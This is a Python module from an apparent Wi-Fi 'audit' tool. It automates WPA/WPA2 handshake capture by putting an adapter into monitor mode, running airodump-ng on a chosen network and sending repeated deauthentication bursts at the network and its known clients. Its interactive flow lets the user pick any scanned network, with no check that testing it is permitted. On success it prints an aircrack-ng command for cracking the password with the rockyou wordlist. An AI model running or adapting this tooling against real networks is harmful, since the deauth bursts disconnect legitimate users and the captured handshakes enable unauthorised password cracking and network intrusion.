"""
WiFiAudit Handshake Capture Module
Drives a single WPA/WPA2 handshake capture: monitor mode, airodump-ng
locked to the target, periodic deauth bursts and aircrack-ng checks until
a handshake shows up or the time budget runs out. The adapter is always
put back into managed mode afterwards.
"""

import math
import time
import logging
from typing import Callable, Dict, List, Optional, Tuple

from .capture import CaptureSession
from .config import build_runner
from .database import ScanDatabase
from .deauth import DeauthInjector
from .interface_manager import InterfaceModeController, resolve_interface
from .models import (
    CaptureResult, CaptureState, ClientRecord, HandshakeCaptureTarget, NetworkRecord
)
from .verifier import HandshakeVerifier

logger = logging.getLogger(__name__)

MIN_DEAUTH_INTERVAL = 0.1


class HandshakeCapture:
    """Handshake capture state machine"""

    def __init__(self, config: Dict, database: Optional[ScanDatabase] = None,
                 runner=None, interface: Optional[str] = None,
                 clock: Callable[[], float] = time.monotonic,
                 sleep: Callable[[float], None] = time.sleep):
        """Initialize handshake capture

        Raises ConfigurationError when no interface can be resolved.
        """
        self.config = config
        self.capture_config = config['capture']
        self.runner = runner or build_runner(config)
        self.interface = interface or resolve_interface(config, self.runner)
        self.db = database or ScanDatabase(config['paths']['database'])
        self.captures_dir = config['paths']['captures_dir']

        self.mode_controller = InterfaceModeController(self.runner)
        self.verifier = HandshakeVerifier(self.runner, timeout=self.capture_config['verify_timeout'])

        self.clock = clock
        self.sleep = sleep

        self.state = CaptureState.IDLE
        self._history: List[CaptureState] = []

    def _transition(self, state: CaptureState):
        logger.debug(f"Capture state: {self.state.value} -> {state.value}")
        self.state = state
        self._history.append(state)

    def _new_session(self) -> CaptureSession:
        return CaptureSession(
            self.runner,
            self.interface,
            captures_dir=self.captures_dir,
            startup_grace=self.capture_config['startup_grace'],
            stop_grace=self.capture_config['stop_grace']
        )

    def _new_injector(self) -> DeauthInjector:
        return DeauthInjector(self.runner, self.interface, timeout=self.capture_config['deauth_timeout'])

    # Target selection
    def list_networks(self) -> List[NetworkRecord]:
        """List WPA/WPA2 networks from the database that can be targeted"""
        return self.db.list_target_networks()

    def get_clients_for_network(self, bssid: str) -> List[ClientRecord]:
        """Get clients associated with a specific BSSID"""
        return self.db.get_clients_for_network(bssid)

    def make_target(self, network: NetworkRecord, duration: Optional[int] = None,
                    deauth_count: Optional[int] = None,
                    deauth_interval: Optional[float] = None) -> HandshakeCaptureTarget:
        """Build a capture target using configured defaults for unset tunables"""
        return HandshakeCaptureTarget.from_network(
            network,
            duration=duration or self.capture_config['duration'],
            deauth_count=deauth_count or self.capture_config['deauth_count'],
            deauth_interval=deauth_interval or self.capture_config['deauth_interval']
        )

    # Capture protocol
    def capture_handshake(self, target: HandshakeCaptureTarget) -> CaptureResult:
        """Capture a handshake for the target

        Returns a CaptureResult; success is False when the time budget ran
        out. Errors entering monitor mode or starting airodump-ng are
        re-raised after the adapter has been restored.
        """
        self.state = CaptureState.IDLE
        self._history = [CaptureState.IDLE]

        session = self._new_session()
        injector = self._new_injector()
        artifact_path = None
        captured = False
        attempts = 0
        started = self.clock()
        restore_warning = None

        try:
            self.mode_controller.enter_monitor_mode(self.interface)
            self._transition(CaptureState.MONITOR_MODE)

            artifact_path = session.start(target)
            self._transition(CaptureState.CAPTURING)

            self._initial_deauth(target, injector)

            captured, attempts = self._capture_loop(target, injector, artifact_path)

            if captured:
                self._transition(CaptureState.DONE_SUCCESS)
                logger.info("🎉 Valid handshake with EAPOL data captured successfully!")
            else:
                self._transition(CaptureState.DONE_TIMEOUT)
                self._log_timeout_guidance(artifact_path)

        except Exception as e:
            logger.error(f"❌ Capture failed: {e}")
            raise

        finally:
            restore_warning = self._teardown(session, injector)
            self._transition(CaptureState.TERMINAL)

        return CaptureResult(
            artifact_path=artifact_path,
            success=captured,
            attempts=attempts,
            elapsed=self.clock() - started,
            restore_warning=restore_warning,
            states=list(self._history)
        )

    def _initial_deauth(self, target: HandshakeCaptureTarget, injector: DeauthInjector):
        """One broadcast burst, then one targeted burst per known client"""
        clients = self.get_clients_for_network(target.bssid)
        logger.info(f"👥 Found {len(clients)} known clients for this network")

        self._transition(CaptureState.DEAUTHING)
        injector.burst(target)

        for client in clients[:self.capture_config['max_targeted_clients']]:
            self.sleep(self.capture_config['client_spacing'])
            injector.burst(target, client_mac=client.station_mac)

    def _capture_loop(self, target: HandshakeCaptureTarget, injector: DeauthInjector,
                      artifact_path: str) -> Tuple[bool, int]:
        """Deauth and check until a handshake is found or the deadline passes"""
        interval = max(target.deauth_interval, MIN_DEAUTH_INTERVAL)
        deadline = self.clock() + target.duration
        attempts = 0

        logger.info(f"⏱️  Capturing for {target.duration} seconds...")
        self._transition(CaptureState.AWAITING_HANDSHAKE)

        while self.clock() < deadline:
            remaining = math.ceil(deadline - self.clock())
            logger.info(f"   Time remaining: {remaining}s | Attempts: {attempts}")

            self.sleep(interval)
            if self.clock() >= deadline:
                break

            self._transition(CaptureState.DEAUTHING)
            injector.burst(target)
            attempts += 1

            self.sleep(self.capture_config['settle_time'])
            self._transition(CaptureState.VERIFYING)
            if self.verifier.verify(artifact_path).is_present:
                return True, attempts

            self._transition(CaptureState.AWAITING_HANDSHAKE)

        return False, attempts

    def _teardown(self, session: CaptureSession, injector: DeauthInjector) -> Optional[str]:
        """Stop all processes and restore managed mode. Never raises."""
        self._transition(CaptureState.RESTORING_MODE)
        logger.info("🛑 Stopping capture...")

        session.stop()
        injector.kill()

        try:
            self.mode_controller.enter_managed_mode(self.interface)
        except Exception as e:
            logger.warning(f"⚠️  Failed to restore managed mode: {e}")
            return str(e)
        return None

    def _log_timeout_guidance(self, artifact_path: str):
        logger.warning("⚠️  Capture timeout reached without valid handshake")
        logger.warning("   Possible reasons:")
        logger.warning("   - No clients are connected to this network")
        logger.warning("   - Clients did not reconnect after deauth")
        logger.warning("   - Signal strength too weak")
        logger.warning("   - Wrong channel or BSSID")
        logger.warning(f"   You can verify manually with: sudo aircrack-ng {artifact_path}")
        logger.warning('   If it shows "no EAPOL data", the capture is not usable.')

    # Interactive flow
    def select_network_interactive(self, input_func: Callable[[str], str] = input,
                                   **overrides) -> Optional[HandshakeCaptureTarget]:
        """Print eligible networks and ask the user to pick one

        Returns None when there is nothing to pick or the user cancels.
        """
        networks = self.list_networks()

        if not networks:
            print('❌ No WPA/WPA2 networks found in database')
            print('   Run a scan first: python main.py scan')
            return None

        print('\n' + '=' * 80)
        print('🎯 TARGET NETWORK SELECTION')
        print('=' * 80)
        print('\nAvailable WPA/WPA2 Networks:\n')

        for index, network in enumerate(networks, start=1):
            print(f"  {index}) {network.essid:<25} | {network.bssid} | Ch: {network.channel:<3} "
                  f"| Pwr: {network.power:<4}")

        print('\n' + '=' * 80)

        answer = input_func('\nSelect network number (or 0 to cancel): ')
        try:
            selection = int(answer.strip())
        except ValueError:
            selection = 0

        if selection == 0:
            print('Cancelled')
            return None

        if selection < 1 or selection > len(networks):
            print('Invalid selection')
            return None

        return self.make_target(networks[selection - 1], **overrides)

    def capture_handshake_interactive(self, input_func: Callable[[str], str] = input,
                                      **overrides) -> Optional[CaptureResult]:
        """Select a target, capture, and run a final verification"""
        target = self.select_network_interactive(input_func, **overrides)
        if not target:
            return None

        print(f"\n🎯 Target: {target.essid}")
        print(f"   BSSID: {target.bssid}")
        print(f"   Channel: {target.channel}\n")

        result = self.capture_handshake(target)

        print(f"\n📁 Capture saved to: {result.artifact_path}")
        print('\n🔍 Performing final verification...')

        if self.verifier.verify(result.artifact_path).is_present:
            print('\n✅ SUCCESS! Valid handshake with EAPOL data confirmed!')
            print('\n🔓 To crack the password, run:')
            print(f"   sudo aircrack-ng -w ./password-lists/rockyou.txt {result.artifact_path}")
        else:
            print('\n❌ WARNING: No valid handshake found in capture file!')
            print('   The file does not contain usable EAPOL data.')
            print('   Try capturing again with these tips:')
            print('   - Ensure clients are actively connected to the network')
            print('   - Try a longer capture duration (2-5 minutes)')
            print('   - Move closer to the access point')
            print("   - Verify you're on the correct channel")

        if result.restore_warning:
            print(f"\n⚠️  Interface was not restored to managed mode: {result.restore_warning}")

        return result
